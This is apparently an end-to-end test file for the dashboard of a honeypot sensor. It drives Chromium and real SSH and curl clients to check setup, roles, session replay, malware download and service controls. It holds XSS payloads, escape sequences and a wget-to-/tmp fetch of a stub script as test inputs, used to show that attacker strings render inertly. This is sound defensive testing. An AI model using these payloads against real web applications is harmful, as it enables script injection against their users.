// The dashboard in headless Chromium (Debian's, through playwright-core) against a live `apiary start`
// fed by real clients (OpenSSH through sshpass, curl): first-run set-up and log-in, every page with its
// data, a recording played back, an analyst changing an incident, a viewer refused, a service switched
// off and on, malware downloaded as an encrypted ZIP. Attacker strings full of markup, javascript: URLs,
// ANSI escapes and invalid UTF-8 show as text: no dialog opens, no console error. Screenshots go to
// docs/screenshots/.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { maskSecret } from '../../src/events/mask.js';
import { launchChromium } from '../../src/report/browser.js';
import { startApiaryProcess, waitFor } from '../helpers/apiary-process.js';
import { startFileServer } from '../helpers/file-server.js';
import { ensureClientBuilt, imagesLoaded, textShows } from '../helpers/dashboard-ui.js';
import { dashboardLogin, httpsRequest } from '../helpers/https-client.js';
import { run, SSH_OPTS, sshWithPassword } from '../helpers/ssh-tools.js';

const PASSWORD = 'Summer2024!';
const BOT = '#!/bin/sh\necho "bot-running"\n';
const XSS_USER = '<script>alert(1)</script>';
const XSS_PASSWORD = '"><img src=x onerror=alert(2)>';
const XSS_COMMAND = 'echo "<script>alert(4)</script>" javascript:alert(5)';
const XSS_FILE = '"><img src=x onerror=alert(3)>.sh';
const XSS_PATH = '/<script>alert(6)</script>';
const XSS_AGENT = '"><img src=x onerror=alert(7)>';
const SHOTS = 'docs/screenshots';

/** An interactive OpenSSH session (pty forced) typing LINES (raw bytes allowed) into the sensor's shell. */
function sshShell(port: number, lines: Buffer): Promise<number | null> {
  return new Promise((resolve, reject) => {
    const p = spawn('sshpass', ['-p', PASSWORD, 'ssh', ...SSH_OPTS, '-tt', '-p', String(port), 'root@127.0.0.1'], { stdio: ['pipe', 'ignore', 'ignore'] });
    const timer = setTimeout(() => p.kill('SIGKILL'), 30_000);
    p.on('error', reject);
    p.stdin.on('error', () => undefined);
    p.on('close', (code) => {
      clearTimeout(timer);
      resolve(code);
    });
    // Lines one at a time, as someone typing, so the shell has its prompt up before each.
    let i = 0;
    const parts = lines.toString('latin1').split('\n').map((l) => Buffer.from(`${l}\n`, 'latin1'));
    const next = (): void => {
      if (i >= parts.length) return void p.stdin.end();
      p.stdin.write(parts[i++]!);
      setTimeout(next, 250);
    };
    setTimeout(next, 1500);
  });
}

function refused(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const s = connect(port, '127.0.0.1');
    s.on('connect', () => {
      s.destroy();
      resolve(false);
    });
    s.on('error', (err: NodeJS.ErrnoException) => resolve(err.code === 'ECONNREFUSED'));
  });
}

interface Watch {
  dialogs: string[];
  errors: string[];
}

function watch(page: Page, w: Watch): void {
  page.on('dialog', (d) => {
    w.dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('console', (m) => {
    if (m.type() === 'error') w.errors.push(m.text());
  });
  page.on('pageerror', (e) => w.errors.push(e.message));
}

async function show(page: Page, base: string, route: string, ready: string): Promise<void> {
  await page.goto(`${base}/#/${route}`);
  await page.waitForSelector(ready, { timeout: 15_000 });
}

async function shot(page: Page, name: string): Promise<void> {
  await page.screenshot({ path: join(SHOTS, `dashboard-${name}.png`), fullPage: true });
}

async function loginAs(ctx: BrowserContext, base: string, user: string, password: string, w: Watch): Promise<Page> {
  const page = await ctx.newPage();
  watch(page, w);
  await page.goto(`${base}/#/login`);
  await page.fill('#login-form input[name=username]', user);
  await page.fill('#login-form input[name=password]', password);
  await page.click('#login-submit');
  await page.waitForSelector('#counters', { timeout: 20_000 });
  return page;
}

test('dashboard in Chromium: set-up, every page with live data, replay, roles, service switch, inert attacker strings', async () => {
  mkdirSync(SHOTS, { recursive: true });
  ensureClientBuilt();
  const files = await startFileServer({ '/bot.sh': BOT });
  const apiary = await startApiaryProcess({
    sensor: 'dash-browser',
    auth: [{ user: 'root', password: PASSWORD }],
    networks: { internal: ['127.0.0.0/8'] },
    fetch: { enabled: true, allow_cidrs: ['127.0.0.0/8'] },
    shell: { seed: 'dash-test', hostname: 'web-prod-01' },
    services: { ssh: { listen: ['127.0.0.1:0'], failure_delay_ms: 0 }, http: { listen: ['127.0.0.1:0'], tls_listen: [] } },
    dashboard: { listen: '127.0.0.1:0', refresh_s: 1 },
  });
  const browser = await launchChromium();
  try {
    const sshPort = apiary.ports.ssh!;
    const httpPort = apiary.ports.http!;
    const base = `https://127.0.0.1:${apiary.ports.dashboard!}`;
    const token = /set-up token \(one use, creates the admin\): (\S+)/.exec(apiary.stdout())?.[1];
    assert.ok(token, 'a one-time set-up token is printed at start');

    // Attack traffic from real clients, hostile strings included.
    // OpenSSH refuses user names with shell metacharacters, so the hostile user name comes over HTTP basic auth
    // (and one with invalid UTF-8 as raw bytes).
    assert.equal((await run('curl', ['-s', '-o', '/dev/null', '-u', `${XSS_USER}:${XSS_PASSWORD}`, `http://127.0.0.1:${httpPort}/admin/`])).code, 0);
    const badUtf8 = Buffer.concat([Buffer.from([0xff, 0xfe, 0x3c, 0xc3]), Buffer.from('user:pass\x1b[2J')]).toString('base64');
    assert.equal((await run('curl', ['-s', '-o', '/dev/null', '-H', `Authorization: Basic ${badUtf8}`, `http://127.0.0.1:${httpPort}/`])).code, 0);
    await sshWithPassword(sshPort, 'root', XSS_PASSWORD);
    const typed = Buffer.concat([
      Buffer.from(`uname -a\ncd /tmp\nwget http://127.0.0.1:${files.port}/bot.sh -O '${XSS_FILE}'\n${XSS_COMMAND}\necho \x1b[31mred\x1b]0;evil-title\x07 `, 'latin1'),
      Buffer.from([0xff, 0xfe, 0xc3]),
      Buffer.from('\nexit\n', 'latin1'),
    ]);
    assert.notEqual(await sshShell(sshPort, typed), null, 'the shell session ends by itself');
    const curl = await run('curl', ['-s', '-o', '/dev/null', '--path-as-is', '-A', XSS_AGENT, `http://127.0.0.1:${httpPort}${XSS_PATH}`]);
    assert.equal(curl.code, 0);
    await waitFor(async () => (await apiary.events(['--type', 'command.input'])).some((e) => String(e.input).includes('alert(4)')), 15_000);
    await waitFor(async () => (await apiary.events(['--type', 'file.download'])).some((e) => e.outcome === 'stored'), 15_000);

    const w: Watch = { dialogs: [], errors: [] };
    // First-run set-up with the printed token, then log in.
    const ctx = await browser.newContext({ ignoreHTTPSErrors: true, viewport: { width: 1280, height: 900 } });
    const setup = await ctx.newPage();
    watch(setup, w);
    await setup.goto(`${base}/`);
    await setup.waitForSelector('#login-form');
    await shot(setup, 'login');
    await setup.click('a[href="#/setup"]');
    await setup.waitForSelector('#setup-form');
    await setup.fill('#setup-form input[name=token]', token);
    await setup.fill('#setup-form input[name=username]', 'admin');
    await setup.fill('#setup-form input[name=password]', 'admin password 123');
    await setup.click('#setup-submit');
    await setup.waitForSelector('#login-form');
    const reuse = await httpsRequest(apiary.ports.dashboard!, '/api/setup', { body: { token, username: 'mallory', password: 'mallory password' } });
    assert.equal(reuse.status, 403, 'the set-up token works once');
    await setup.close();
    const page = await loginAs(ctx, base, 'admin', 'admin password 123', w);

    // Overview: counters, charts (as images), the internal host to clean.
    await waitFor(async () => {
      await page.reload();
      await page.waitForSelector('#counters');
      return Number(await page.locator('#c-internal b').innerText()) >= 1;
    }, 40_000, 1000).catch(() => undefined);
    assert.ok(Number(await page.locator('#c-events b').innerText()) > 10);
    assert.ok(Number(await page.locator('#c-internal b').innerText()) >= 1, 'loopback sources are internal in this config');
    assert.match(await page.locator('#internal-hosts').innerText(), /127\.0\.0\.1/);
    assert.match(await page.locator('#fig1-table').innerText(), /ssh/);
    for (const img of ['#chart-days', '#chart-fig1', '#chart-fig2', '#chart-map']) {
      await imagesLoaded(page, img);
    }
    await shot(page, 'overview-live');

    // Attack chains: the chain of this traffic, with its timeline (the runner folds it within seconds).
    await waitFor(async () => ((await (await page.request.get(`${base}/api/chains`)).json()) as unknown[]).length > 0, 20_000, 500);
    await show(page, base, 'chains', '#chains-table tbody tr');
    await page.click('#chains-table tbody tr a');
    await page.waitForSelector('#chain-steps');
    const steps = await page.locator('#chain-steps').innerText();
    assert.match(steps, /127\.0\.0\.1/);
    assert.ok(steps.includes(XSS_COMMAND.replace('echo ', 'ran: echo ')) || steps.includes('alert(4)'), 'the hostile command is in the timeline, as text');
    assert.match(await page.locator('#attack-matrix').innerText(), /Credential Access|Execution/);
    await shot(page, 'chain-live');

    // Users: the admin adds an analyst and a viewer through the form.
    for (const [name, role] of [['ana', 'analyst'], ['vic', 'viewer']] as const) {
      await show(page, base, 'users', '#user-form');
      await page.fill('#user-form input[name=new-username]', name);
      await page.fill('#user-form input[name=new-password]', `${name} password 123`);
      await page.selectOption('#user-form select[name=new-role]', role);
      await page.click('#user-form button[type=submit]');
      await textShows(page, '#users-table', name);
    }
    assert.match(await page.locator('#audit-table').innerText(), /user\.create/);
    await shot(page, 'users');

    // Sessions: search by the hostile user name; then the shell session with its recording.
    await show(page, base, `sessions?username=${encodeURIComponent(XSS_USER)}`, '#sessions-table');
    assert.equal(await page.locator('#sessions-table tbody tr').count(), 1);
    await show(page, base, 'sessions?command=alert(4)', '#sessions-table');
    await shot(page, 'sessions');
    await page.click('#sessions-table tbody tr a');
    await page.waitForSelector('#player');
    assert.ok((await page.locator('#session-commands').innerText()).includes(XSS_COMMAND));
    const saved = await page.locator('#session-files').innerText();
    assert.ok(saved.includes(`http://127.0.0.1:${files.port}/bot.sh`));
    assert.ok(saved.includes(`/tmp/${XSS_FILE}`), 'the hostile file name shows as text');
    await page.selectOption('#player-speed', '20');
    await page.click('#player-play');
    await textShows(page, '#player-status', 'finished', { exact: true, timeout: 30_000 });
    const screen = await page.locator('#term').innerText();
    assert.match(screen, /Linux web-prod-01/, 'the recording plays what the attacker saw');
    assert.ok(screen.includes('<script>alert(4)</script>'));
    assert.doesNotMatch(screen, /[\x00-\x08\x0b-\x1f\x7f]/, 'control and escape characters are dropped');
    await shot(page, 'session');
    // Text that would show as other text (a right-to-left override, a C1 control, a zero-width space)
    // is shown by its code point, as the dashboard's own module does it in the page.
    const shown = await page.evaluate(async (url) => ((await import(url)) as { visible(s: string): string }).visible('rm \u202Efdp.exe\u0085\u200b\x1b'), '/ui/dom.js');
    assert.equal(shown, 'rm ⟨U+202E⟩fdp.exe⟨U+0085⟩⟨U+200B⟩␛');

    // The HTTP session: hostile path and user agent as text; found by the hostile password too.
    await show(page, base, `sessions?password=${encodeURIComponent(XSS_PASSWORD)}&protocol=http`, '#sessions-table');
    await page.click('#sessions-table tbody tr a');
    await page.waitForSelector('#session-events');
    const httpEvents = await page.locator('#session-events').innerText();
    assert.ok(httpEvents.includes(XSS_USER) && httpEvents.includes(XSS_PASSWORD));
    await show(page, base, 'sessions?protocol=http', '#sessions-table');
    const httpSessions = page.locator('#sessions-table tbody tr a');
    let seenPath = false;
    for (let i = 0; i < (await httpSessions.count()) && !seenPath; i++) {
      await show(page, base, 'sessions?protocol=http', '#sessions-table');
      await page.locator('#sessions-table tbody tr a').nth(i).click();
      await page.waitForSelector('#session-events');
      const text = await page.locator('#session-events').innerText();
      seenPath = text.includes(XSS_PATH) && text.includes(XSS_AGENT);
    }
    assert.ok(seenPath, 'the hostile HTTP path and user agent show as text');

    // Credentials: hostile names and passwords as text; a planted SSH honeytoken, used, shows its use.
    // The dashboard shows decoy secrets masked: the clear one comes from the store.
    const tokens = (await apiary.events(['--type', 'honeytoken.planted'])) as { kind: string; username: string; secret: string }[];
    const sshToken = tokens.find((t) => t.kind === 'ssh');
    assert.ok(sshToken, 'the fake shell plants an SSH honeytoken');
    const listed = (await (await page.request.get(`${base}/api/credentials`)).json()).honeytokens as { username: string; secret_masked: string }[];
    assert.equal(listed.find((t) => t.username === sshToken.username)?.secret_masked, maskSecret(sshToken.secret));
    await sshWithPassword(sshPort, sshToken.username, sshToken.secret, 'id');
    await waitFor(async () => (await apiary.events(['--type', 'auth.attempt'])).some((e) => e.username === sshToken.username), 15_000);
    // Figures are recounted every refresh_s (1 s here): the page shows the use within a few loads.
    const tokenRow = page.locator('#honeytokens tbody tr', { hasText: maskSecret(sshToken.secret) });
    await show(page, base, 'credentials', '#honeytokens');
    await waitFor(async () => {
      await page.reload();
      await page.waitForSelector('#honeytokens');
      return /127\.0\.0\.1 ssh login/.test(await tokenRow.innerText());
    }, 20_000, 500);
    const creds = await page.locator('#cred-pairs').innerText();
    assert.ok(creds.includes(XSS_USER) && creds.includes(XSS_PASSWORD));
    await shot(page, 'credentials');

    // Malware: the stored file, downloadable only as a ZIP encrypted with "infected".
    await show(page, base, 'malware', '#malware-table');
    const sha = createHash('sha256').update(BOT).digest('hex');
    assert.ok((await page.locator('#malware-table').innerText()).includes(sha));
    await shot(page, 'malware');
    const zip = await page.request.get(`${base}/api/malware/${sha}/zip`);
    assert.equal(zip.status(), 200);
    const zipPath = join(apiary.dir, 'sample.zip');
    writeFileSync(zipPath, await zip.body());
    const unzip = (password: string): string => {
      const r = spawnSync('unzip', ['-p', '-P', password, zipPath], { encoding: 'utf8' });
      return r.stdout;
    };
    assert.notEqual(unzip('wrong'), BOT, 'a wrong password does not open it');
    assert.equal(unzip('infected'), BOT);

    // Incidents and alert history.
    await show(page, base, 'incidents', '#incidents-table');
    assert.match(await page.locator('#incidents-table').innerText(), /127\.0\.0\.1/);
    await shot(page, 'incidents');

    // Reports.
    await show(page, base, 'reports', '#report-links');
    const html = await page.request.get(`${base}/api/reports/html`);
    assert.equal(html.status(), 200);
    assert.match(await html.text(), /Distinct IPs per service/);
    const json = await page.request.get(`${base}/api/reports/json`);
    assert.ok((await json.json()).totals.events > 10);
    assert.equal(await page.locator('#export-links a').count(), 2);
    const stix = await page.request.get(`${base}/api/exports/stix?tlp=red`);
    assert.equal(stix.status(), 200);
    const bundle = (await stix.json()) as { type: string; objects: { type: string; name?: string }[] };
    assert.equal(bundle.type, 'bundle');
    assert.ok(bundle.objects.some((o) => o.type === 'marking-definition' && o.name === 'TLP:RED'));
    assert.equal((await page.request.get(`${base}/api/exports/misp`)).status(), 200);
    assert.equal((await page.request.get(`${base}/api/exports/stix?tlp=purple`)).status(), 400);
    await shot(page, 'reports');

    // Query console.
    await show(page, base, 'query', '#sql');
    await page.click('#sql-run');
    await page.waitForSelector('#sql-table');
    assert.match(await page.locator('#sql-table').innerText(), /command\.input/);
    await shot(page, 'query');

    // Live monitor: a new request shows up as it arrives; pause stops the flow.
    await show(page, base, 'live', '#live-table');
    await textShows(page, '#live-state', 'live', { exact: true });
    await run('curl', ['-s', '-o', '/dev/null', '--path-as-is', '-A', XSS_AGENT, `http://127.0.0.1:${httpPort}/javascript:alert(8)`]);
    await textShows(page, '#live-table', 'javascript:alert(8)');
    await page.fill('input[name=filter]', 'http.request');
    assert.ok((await page.locator('#live-table tbody tr:visible').count()) >= 1);
    assert.equal(await page.locator('#live-table tbody tr:visible', { hasText: 'connection.open' }).count(), 0, 'the filter hides other events');
    await page.click('#live-pause');
    await run('curl', ['-s', '-o', '/dev/null', `http://127.0.0.1:${httpPort}/while-paused`]);
    await waitFor(async () => (await apiary.events(['--type', 'http.request'])).some((e) => e.path === '/while-paused'), 10_000);
    await new Promise((r) => setTimeout(r, 1000));
    assert.equal(await page.locator('#live-table', { hasText: '/while-paused' }).count(), 0, 'nothing is added while paused');
    await page.click('#live-pause');
    await run('curl', ['-s', '-o', '/dev/null', `http://127.0.0.1:${httpPort}/after-resume`]);
    await textShows(page, '#live-table', '/after-resume');
    await shot(page, 'live');

    // Ports and services: ssh switched off stops answering; on again, it logs in.
    await show(page, base, 'services', '#services-table');
    assert.match(await page.locator('#ports-table').innerText(), /ssh/);
    await shot(page, 'services');
    await page.click('button.service-switch[data-service=ssh]');
    await page.waitForSelector('span.badge.off[data-service=ssh]');
    assert.equal(await refused(sshPort), true, 'ssh stops answering');
    await page.click('button.service-switch[data-service=ssh]');
    await page.waitForSelector('span.badge.on[data-service=ssh]');
    assert.equal((await sshWithPassword(sshPort, 'root', PASSWORD, 'echo back')).code, 0, 'ssh answers again');
    // Its settings: a 1 s idle limit applies to the next connection (the default is minutes).
    await page.fill('tr:has(button.service-limits[data-service=ssh]) input[name=idle_timeout_s]', '1');
    await page.click('button.service-limits[data-service=ssh]');
    await page.waitForSelector('tr:has(button.service-limits[data-service=ssh]) span.limits .ok');
    const idleClosed = await new Promise<number>((resolve) => {
      const t0 = Date.now();
      const s = connect(sshPort, '127.0.0.1');
      s.on('data', () => undefined);
      s.on('error', () => undefined);
      s.on('close', () => resolve(Date.now() - t0));
      setTimeout(() => s.destroy(), 10_000);
    });
    assert.ok(idleClosed < 5000, `an idle connection is closed after the new limit (${idleClosed} ms)`);

    // Analyst: changes an incident's status with a note.
    const actx = await browser.newContext({ ignoreHTTPSErrors: true, viewport: { width: 1280, height: 900 } });
    const analyst = await loginAs(actx, base, 'ana', 'ana password 123', w);
    await show(analyst, base, 'incidents', '#incidents-table');
    const first = analyst.locator('#incidents-table tbody tr').first();
    const id = await first.locator('select.status-select').getAttribute('data-id');
    await first.locator('select.status-select').selectOption('investigating');
    await first.locator('input[name=note]').fill('checked by <b>ana</b>');
    await first.locator('button.save-incident').click();
    await first.locator('.ok').waitFor();
    assert.equal(await first.locator('.incident-status').innerText(), 'investigating');
    assert.match(await first.innerText(), /checked by <b>ana<\/b>/, 'the note shows as text');
    const admin = await dashboardLogin(apiary.ports.dashboard!, 'admin', 'admin password 123');
    const incs = (await httpsRequest(apiary.ports.dashboard!, '/api/incidents', { headers: { cookie: admin.cookie } })).json<{ id: string; status: string; notes: { text: string }[] }[]>();
    const changed = incs.find((i) => i.id === id);
    assert.equal(changed?.status, 'investigating');
    assert.equal(changed?.notes.at(-1)?.text, 'checked by <b>ana</b>');
    await actx.close();

    // Viewer: no controls in the UI, and the API refuses a change even with the CSRF token.
    const vctx = await browser.newContext({ ignoreHTTPSErrors: true, viewport: { width: 1280, height: 900 } });
    const viewer = await loginAs(vctx, base, 'vic', 'vic password 123', w);
    await show(viewer, base, 'incidents', '#incidents-table');
    assert.equal(await viewer.locator('select.status-select').count(), 0);
    assert.equal(await viewer.locator('a[href="#/query"]').count(), 0);
    await show(viewer, base, 'services', '#services-table');
    assert.equal(await viewer.locator('button.service-switch').count(), 0);
    const csrf = (await (await viewer.request.get(`${base}/api/session`)).json()).csrf as string;
    const denied = await viewer.request.post(`${base}/api/incidents/${encodeURIComponent(id ?? 'x')}`, { headers: { 'x-csrf-token': csrf }, data: { status: 'resolved' } });
    assert.equal(denied.status(), 403);
    const deniedSvc = await viewer.request.post(`${base}/api/services/ssh`, { headers: { 'x-csrf-token': csrf }, data: { enabled: false } });
    assert.equal(deniedSvc.status(), 403);
    assert.equal((await viewer.request.get(`${base}/api/malware/${sha}/zip`)).status(), 403);
    await vctx.close();

    // Nothing an attacker typed ran: no dialog, no console error, no injected element.
    assert.deepEqual(w.dialogs, []);
    assert.deepEqual(w.errors, []);
    assert.equal(await page.locator('img[src="x"]').count(), 0);
  } finally {
    await browser.close();
    await apiary.stop();
    await files.close();
  }
});
